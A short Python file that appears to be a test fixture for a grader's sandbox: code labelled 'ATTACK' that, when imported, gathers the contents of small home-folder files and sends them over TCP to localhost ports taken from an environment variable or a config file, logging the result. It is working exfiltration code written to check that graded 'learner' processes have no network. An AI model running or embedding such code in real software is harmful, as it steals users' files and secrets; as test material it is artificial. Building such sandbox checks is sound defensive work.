# ATTACK (machine): exfiltrates over the network. Finds a port (the LICENSE_SERVER_PORT variable, or
# ~/.license_port, and the two ports either side), connects to 127.0.0.1 there and sends what it can read
# of the home folder.
# A secure grader: the learner's process has no network; nothing connects.
import os
import socket


def _ports():
    found = []
    if os.environ.get("LICENSE_SERVER_PORT", "").isdigit():
        found.append(int(os.environ["LICENSE_SERVER_PORT"]))
    try:
        with open(os.path.expanduser("~/.license_port")) as f:
            found.append(int(f.read().strip()))
    except (OSError, ValueError):
        pass
    return sorted({p + d for p in found for d in (0, -1, 1, -2, 2) if 0 < p + d < 65536})


def _loot() -> bytes:
    home, data = os.path.expanduser("~"), b""
    try:
        for name in sorted(os.listdir(home)):
            p = os.path.join(home, name)
            if os.path.isfile(p) and os.path.getsize(p) < 4096:
                with open(p, "rb") as f:
                    data += name.encode() + b": " + f.read() + b"\n"
    except OSError:
        pass
    return data or b"nothing"


def _exfiltrate():
    ports = _ports()
    for port in ports:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=2) as s:
                s.sendall(b"EXFIL " + _loot())
            print(f"ATTACK tcp_connect: connected to 127.0.0.1:{port} and sent the loot", flush=True)
        except OSError as exc:
            print(f"ATTACK tcp_connect: 127.0.0.1:{port}: {exc}", flush=True)
    if not ports:
        print("ATTACK tcp_connect: no port to try", flush=True)


_exfiltrate()
